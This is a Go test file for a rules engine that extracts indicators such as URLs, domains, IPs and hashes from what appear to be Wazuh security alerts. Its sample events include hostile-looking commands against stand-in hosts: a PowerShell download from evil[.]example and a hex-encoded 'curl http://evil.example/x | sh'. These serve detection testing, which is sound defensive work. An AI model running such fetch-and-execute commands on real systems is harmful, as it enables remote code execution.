package rules

import (
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "write what the default rules find into testdata/default")

// TestDefaultRules compares what the default rules find with testdata/default:
// alerts of one line, each followed by what is to be found, indented.
func TestDefaultRules(t *testing.T) {
	files, err := filepath.Glob("testdata/default/*.txt")
	if err != nil || len(files) == 0 {
		t.Fatal("no testdata/default", err)
	}
	set := defaults(t, Options{})
	used := map[string]bool{}
	for _, file := range files {
		t.Run(strings.TrimSuffix(filepath.Base(file), ".txt"), func(t *testing.T) {
			src, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			got := ""
			for line := range strings.Lines(string(src)) {
				if strings.HasPrefix(line, "  ") {
					continue
				}
				got += line
				if !strings.HasPrefix(line, "{") {
					continue
				}
				for _, found := range found(t, set, line) {
					got += "  " + found + "\n"
				}
				var x Extraction
				set.Extract(fieldsOf(t, set, line), &x)
				for _, f := range x.Found {
					used[set.RuleName(f.Rule)] = true
				}
			}
			if *update {
				if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			} else if got != string(src) {
				t.Errorf("found other than %s says; with -update, git diff shows what", file)
			}
		})
	}
	for i := range set.names {
		if name := set.RuleName(i); !used[name] {
			t.Errorf("no alert in testdata/default shows rule %q", name)
		}
	}
}

func TestDefaultText(t *testing.T) {
	tests := []struct {
		name, event string
		want        []string
	}{
		{"a command", `{"data":{"win":{"eventdata":{"commandLine":"powershell iwr hxxps://evil[.]example/a?b=1&amp;c=2"}}}}`, []string{
			"data.win.eventdata.commandLine url https://evil.example/a?b=1&c=2",
			"data.win.eventdata.commandLine domain evil.example (host)",
		}},
		{"a script", `{"data":{"win":{"eventdata":{"scriptBlockText":"$c.Connect('203.0.113.7', 443) # 44d88612fea8a8f36de82e1278abb02f"}}}}`, []string{
			"data.win.eventdata.scriptBlockText ip 203.0.113.7",
			"data.win.eventdata.scriptBlockText md5 44d88612fea8a8f36de82e1278abb02f",
		}},
		{"arguments, one in hex", `{"data":{"audit":{"execve":{"a0":"bash","a1":"-c","a2":"6375726C20687474703A2F2F6576696C2E6578616D706C652F78207C207368"}}}}`, []string{
			"data.audit.execve.* url http://evil.example/x",
			"data.audit.execve.* domain evil.example (host)",
		}},
		{"a log", `{"full_log":"Deny tcp from 203.0.113.7 to 10.0.0.1","data":{"srcip":"203.0.113.7"}}`, []string{
			"full_log ip 203.0.113.7",
			"data.srcip ip 203.0.113.7",
		}},
		{"a log in JSON is not text", `{"full_log":"{\"id\":\"d47511d28ebf226e6bebff7be58ba8b03cb62fba7686a877e565d837e3d438da\"}"}`, nil},
	}
	on, off := defaults(t, Options{Text: true}), defaults(t, Options{})
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if got := found(t, on, test.event); !slices.Equal(got, test.want) {
				t.Errorf("found\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(test.want, "\n"))
			}
			for _, line := range found(t, off, test.event) {
				if !strings.HasPrefix(line, "data.srcip ") {
					t.Errorf("with text off: found %s", line)
				}
			}
		})
	}
}

func TestOffRulesCanBeSwitchedOn(t *testing.T) {
	wazuh, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	switches := "version: 1\nrules:\n"
	var names []string
	for _, r := range wazuh.rules {
		if r.enabled == never {
			names = append(names, r.name)
			switches += "  - {name: " + r.name + ", enabled: true}\n"
		}
	}
	own, err := Parse("own.yaml", []byte(switches))
	if err != nil {
		t.Fatal(err)
	}
	s, err := Compile(Options{}, wazuh, own)
	if err != nil {
		t.Fatal(err)
	}
	got := found(t, s, `{"rule":{"groups":["syscheck_registry"]},
		"syscheck":{"path":"HKEY_LOCAL_MACHINE\\Software\\Evil"},
		"data":{"vulnerability":{"cve":"cve-2024-27903"},
			"http":{"http_user_agent":"evilbot/1.0"},
			"win":{"eventdata":{"pipeName":"\\evil_pipe","originalFileName":"payload.com","targetObject":"HKLM\\Software\\Evil"}},
			"docker":{"Actor":{"Attributes":{"image":"x@sha256:275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"}}}}}`)
	want := []string{"syscheck.path regkey", "data.vulnerability.cve cve", "data.http.http_user_agent user-agent",
		"data.win.eventdata.pipeName named-pipe", "data.win.eventdata.originalFileName filename",
		"data.win.eventdata.targetObject regkey", "data.docker.Actor.Attributes.image sha256"}
	for i := range got {
		path, rest, _ := strings.Cut(got[i], " ")
		kind, _, _ := strings.Cut(rest, " ")
		got[i] = path + " " + kind
	}
	if !slices.Equal(got, want) {
		t.Errorf("with %v on: found %q, want %q", names, got, want)
	}
}
